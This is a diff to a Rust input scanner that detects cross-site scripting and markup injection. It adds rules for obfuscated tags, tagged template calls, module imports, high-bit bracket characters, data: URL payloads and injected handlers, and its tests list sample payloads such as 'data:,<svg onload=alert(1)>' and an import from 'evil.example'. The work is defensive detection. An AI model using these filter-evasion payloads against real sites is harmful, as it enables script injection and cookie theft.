@@ -79,7 +79,9 @@ const TRIGGERS: &[(&str, Trigger)] = &[
     ("+adw-", Trigger::Always("utf-7 markup")),
     ("!entity", Trigger::Always("xml entity")),
     ("xi:include", Trigger::Always("xinclude")),
-    (".call`", Trigger::Always("tagged template call")),
+    ("call", Trigger::TaggedCall),
+    ("apply", Trigger::TaggedCall),
+    ("import", Trigger::Import),
     ("btoa", Trigger::Sink),
     ("![]", Trigger::JsFuck),
     ("document", Trigger::Global),
@@ -105,6 +107,10 @@ enum Trigger {
     Global,
     /// JSFuck-style coercions (`(![]+[])[+!+[]]`).
     JsFuck,
+    /// `.call` / `.apply` used as a template tag (`[].sort.call\`${alert}\``).
+    TaggedCall,
+    /// An ES module `import { x } from "..."` or a dynamic `import(`.
+    Import,
     Always(&'static str),
 }
 
@@ -150,7 +156,24 @@ impl Scanner {
                 .chars()
                 .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
                 .collect();
-            return self.scan_decoded(&squeezed);
+            if let Some(hit) = self.scan_decoded(&squeezed) {
+                return Some(hit);
+            }
+        }
+        // US-ASCII with the high bit ignored (old Tomcat/IIS charset handling):
+        // `¼script¾` (0xBC, 0xBE) reaches the page as `<script>`.
+        if decoded.contains(['\u{BC}', '\u{BE}']) {
+            let folded: String = decoded
+                .chars()
+                .map(|c| match c {
+                    '\u{BC}' => '<',
+                    '\u{BE}' => '>',
+                    '\u{A2}' => '"',
+                    '\u{A7}' => '\'',
+                    other => other,
+                })
+                .collect();
+            return self.scan_decoded(&folded);
         }
         None
     }
@@ -188,8 +211,30 @@ fn skip_ignorable(bytes: &[u8], mut i: usize) -> usize {
 
 fn verify(trigger: Trigger, bytes: &[u8], start: usize, end: usize) -> Option<&'static str> {
     match trigger {
+        // `/manual/document.cookie`: a path segment that names the property (a
+        // file or page name), not script; `*/document.cookie` after a comment is.
+        Trigger::Always(reason)
+            if (reason.starts_with("document.") || reason.starts_with("window."))
+                && start > 0
+                && at(bytes, start - 1) == b'/'
+                && (start < 2 || at(bytes, start - 2) != b'*') =>
+        {
+            None
+        }
         Trigger::Always(reason) => Some(reason),
-        Trigger::Tag => tag(bytes, end),
+        Trigger::Tag => tag(bytes, end).or_else(|| spaced_tag(bytes, end)),
+        Trigger::TaggedCall => {
+            // `. call \``, `./**/call\``: blanks and comments around the dot.
+            let before = bytes.get(..start).unwrap_or(&[]);
+            let dot = before
+                .iter()
+                .rposition(|b| !b.is_ascii_whitespace())
+                .and_then(|p| before.get(p))
+                == Some(&b'.');
+            let i = skip_comments(bytes, end);
+            (dot && at(bytes, i) == b'`').then_some("tagged template call")
+        }
+        Trigger::Import => import(bytes, start, end),
         Trigger::ScriptUrl => script_url(bytes, start),
         Trigger::DataUrl => {
             let rest = bytes.get(end..).unwrap_or(&[]);
@@ -207,7 +252,19 @@ fn verify(trigger: Trigger, bytes: &[u8], start: usize, end: usize) -> Option<&'
             ]
             .iter()
             .any(|m| lowered.windows(m.len()).any(|w| w == *m));
-            html.then_some("data: url")
+            // `data:,<svg onload=...>`, `data: , <x>`: markup as the URL's payload,
+            // whatever the (often omitted) media type says.
+            let comma = rest.iter().position(|b| *b == b',');
+            // The media type is empty or `type/subtype[;param]`, never prose.
+            let markup_payload = comma.is_some_and(|c| {
+                let after = skip_ignorable(rest, c + 1);
+                let media = rest.get(..c).unwrap_or(&[]).trim_ascii();
+                (media.is_empty() || media.contains(&b'/') || media.first() == Some(&b';'))
+                    && !media.contains(&b' ')
+                    && at(rest, after) == b'<'
+                    && at(rest, after + 1).is_ascii_alphabetic()
+            });
+            (html || markup_payload).then_some("data: url")
         }
         Trigger::Expression => {
             let i = skip_comments(bytes, end);
@@ -254,6 +311,10 @@ fn verify(trigger: Trigger, bytes: &[u8], start: usize, end: usize) -> Option<&'
 /// `window["alert"]`, `self[/*x*/"alert"]`, `document.createElement(`.
 fn global(bytes: &[u8], start: usize, end: usize) -> Option<&'static str> {
     if (start > 0 && is_ident(at(bytes, start - 1))) || is_ident(at(bytes, end)) {
+        return None;
+    }
+    // A path segment (`/manual/document.cookie`) names a page, as above.
+    if start > 0 && at(bytes, start - 1) == b'/' && (start < 2 || at(bytes, start - 2) != b'*') {
         return None;
     }
     let mut i = skip_comments(bytes, end);
@@ -333,6 +394,101 @@ fn css_context(bytes: &[u8], start: usize) -> bool {
     matches!(trimmed, Some(b':' | b'=' | b'"' | b'\'' | b'{' | b';'))
 }
 
+/// Tag names that matter when spelled out with blanks (`<f o r m`): the active
+/// tags plus the interactive elements payloads hang handlers on.
+const SPELLED_TAGS: &[&str] = &[
+    "form", "dialog", "marquee", "img", "image", "input", "body", "video", "audio", "details",
+    "button", "select", "textarea", "keygen", "source", "animate", "set",
+];
+
+/// A tag name hidden from naive filters: letters separated by blanks (`<f o r m`,
+/// `<d i a l o g`) or a blank-padded namespace prefix (`< x: script`). Browsers do
+/// not parse these; filters that strip blanks, and XML parsers, do.
+fn spaced_tag(bytes: &[u8], end: usize) -> Option<&'static str> {
+    let mut i = skip_ignorable(bytes, end);
+    let mut j = i;
+    while at(bytes, j).is_ascii_alphanumeric() {
+        j += 1;
+    }
+    let namespaced = j > i && at(bytes, j) == b':';
+    if namespaced {
+        i = skip_ignorable(bytes, j + 1);
+    }
+    let mut name = [0u8; 12];
+    let mut len = 0;
+    let mut tokens = 0;
+    let mut single_letters = true;
+    while at(bytes, i).is_ascii_alphabetic() {
+        let word_start = i;
+        while at(bytes, i).is_ascii_alphabetic() {
+            *name.get_mut(len)? = lower(at(bytes, i));
+            len += 1;
+            i += 1;
+        }
+        tokens += 1;
+        single_letters &= i - word_start == 1;
+        if namespaced {
+            break;
+        }
+        i = skip_ignorable(bytes, i);
+    }
+    let name = name.get(..len)?;
+    let known = |list: &[&str]| list.iter().any(|t| t.as_bytes() == name);
+    let spelled = !namespaced && single_letters && tokens >= 3;
+    if (spelled && (known(ACTIVE_TAGS) || known(SPELLED_TAGS)))
+        || (namespaced && known(ACTIVE_TAGS))
+    {
+        return Some("obfuscated tag");
+    }
+    None
+}
+
+/// `import { a } from "./x.js"`, `import * as m from '...'`, `import('//x')`: ES
+/// module loading. "willing to import (and wait)" has a blank before `(` and no
+/// `from` clause. The statement must start the value or follow script punctuation
+/// (`";import ...`): prose quoting one ("use `import {x} from 'y'`") does not run.
+fn import(bytes: &[u8], start: usize, end: usize) -> Option<&'static str> {
+    if (start > 0 && is_ident(at(bytes, start - 1))) || is_ident(at(bytes, end)) {
+        return None;
+    }
+    let before = bytes.get(..start).unwrap_or(&[]).trim_ascii_end();
+    if !matches!(
+        before.last(),
+        None | Some(b';' | b'"' | b'\'' | b'>' | b'(' | b'{' | b'}' | b'=')
+    ) {
+        return None;
+    }
+    if at(bytes, end) == b'(' {
+        return Some("dynamic import");
+    }
+    let i = skip_ignorable(bytes, end);
+    let after_clause = match at(bytes, i) {
+        b'{' => {
+            let rest = bytes.get(i..).unwrap_or(&[]);
+            let close = rest.iter().take(256).position(|b| *b == b'}')?;
+            i + close + 1
+        }
+        b'*' => {
+            let k = skip_ignorable(bytes, i + 1);
+            if bytes.get(k..k + 2) != Some(b"as") {
+                return None;
+            }
+            let mut k = skip_ignorable(bytes, k + 2);
+            while is_ident(at(bytes, k)) {
+                k += 1;
+            }
+            k
+        }
+        _ => return None,
+    };
+    let k = skip_ignorable(bytes, after_clause);
+    if bytes.get(k..k + 4) != Some(b"from") {
+        return None;
+    }
+    let q = skip_ignorable(bytes, k + 4);
+    matches!(at(bytes, q), b'"' | b'\'' | b'`').then_some("module import")
+}
+
 /// `<` followed by a tag name: active tags always count; any other tag counts when
 /// it carries an event handler or a script URL before it closes.
 fn tag(bytes: &[u8], end: usize) -> Option<&'static str> {
@@ -380,6 +536,22 @@ fn tag(bytes: &[u8], end: usize) -> Option<&'static str> {
         .position(|b| *b == b'>')
         .unwrap_or(inside.len());
     let inside = inside.get(..close).unwrap_or(&[]);
+    // Namespace declarations in markup embedded in a parameter (`q=<x xmlns=...`):
+    // they switch injected markup into the XHTML or SVG namespace, or point
+    // `xsi:schemaLocation` at a remote host. A whole XML document (value starting
+    // with `<`) declares namespaces legitimately.
+    let embedded = bytes
+        .iter()
+        .find(|c| !c.is_ascii_whitespace())
+        .is_some_and(|c| *c != b'<');
+    if embedded
+        && inside.windows(6).any(|w| {
+            w.get(..5).is_some_and(|x| x.eq_ignore_ascii_case(b"xmlns"))
+                && matches!(w.get(5), Some(b'=' | b':'))
+        })
+    {
+        return Some("namespace declaration");
+    }
     let mut j = 0;
     while j + 2 < inside.len() {
         let prev = if j == 0 { b' ' } else { at(inside, j - 1) };
@@ -421,6 +593,32 @@ fn handler(bytes: &[u8], start: usize, end: usize) -> Option<&'static str> {
     let eq = skip_ignorable(bytes, k);
     if at(bytes, eq) != b'=' {
         return None;
+    }
+    // `  onload= ...` at the very start of a value after blanks: an attribute
+    // injected into an unquoted attribute context, whatever the event name.
+    // Real event names are short (the longest, `onwebkitplaybacktargetavailability
+    // changed`, has 39 letters after `on`).
+    if start > 0
+        && k - end <= 48
+        && bytes
+            .get(..start)
+            .is_some_and(|b| b.iter().all(u8::is_ascii_whitespace))
+    {
+        return Some("event handler");
+    }
+    // `.../onafe=` inside a base64 token (signatures, tokens): `/` is a base64
+    // digit there, not the end of a tag name.
+    if prev == b'/' {
+        let run = bytes
+            .get(..start - 1)
+            .unwrap_or(&[])
+            .iter()
+            .rev()
+            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/'))
+            .count();
+        if run >= 16 {
+            return None;
+        }
     }
     let name = bytes.get(end..k).unwrap_or(&[]);
     let quoted_break = matches!(prev, b'"' | b'\'' | b'`' | b'/')
@@ -616,6 +814,7 @@ mod tests {
             "new Function('alert(1)')()",
             "a=(![]+[])[+!+[]]",
             "document /*foo*/ .     cookie",
+            "javascript:/**/document.cookie",
             "window[\"alert\"](1)",
             "(document)[\"cookie\"]",
             "[].sort.call`${alert}1337`",
@@ -625,6 +824,24 @@ mod tests {
             "<:vmlframe src=",
             "x=x:url(javascript",
             "+ADw-script+AD4-alert(1)",
+            // Obfuscated tag names.
+            "<f o r m",
+            "bar<d i a l o g",
+            "< x: script",
+            // Handler injected into an unquoted attribute, any event name.
+            "  onload= =vardata",
+            "  onabcdefgh= x",
+            // Markup as a data: URL payload, US-ASCII high-bit brackets.
+            " data: , <x>",
+            "data:,<svg onload=alert(1)>",
+            "\\xbcscript\\xbealert(1)\\xbc/script\\xbe",
+            // Module loading, spaced tagged templates, embedded namespaces.
+            "import { sayHi, sayBye } from \"./greeting.js\";",
+            "import * as m from 'https://evil.example/x.js'",
+            "import('//evil.example/x.js')",
+            "[  ] . sort . call ` ${ alert } 1337 `",
+            "[ 1234 ]. map . call`${eval}`",
+            "var=<aai xmlns=\"http://a.b/\" xsi:schemaLocation=\"http://a.b/ http://x.example/a.xsd\">",
         ] {
             assert!(hit(attack), "missed {attack:?}");
         }
@@ -652,6 +869,19 @@ mod tests {
             "window seat",
             "document.pdf",
             "x on",
+            // Neighbours of the rules above.
+            "a <b c d",
+            "I <3 u",
+            "x < s c",
+            "if you're willing to import (and perhaps wait)",
+            "import duties from China",
+            "recall`s",
+            "data: 5 items, <none>",
+            "sign=VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=",
+            "<?xml version=\"1.0\"?><root xmlns=\"urn:x\"><a>1</a></root>",
+            "  online now",
+            "/get/javascript-manual/document.cookie",
+            "\u{BC} cup sugar",
         ] {
             assert!(!hit(benign), "flagged {benign:?}");
         }
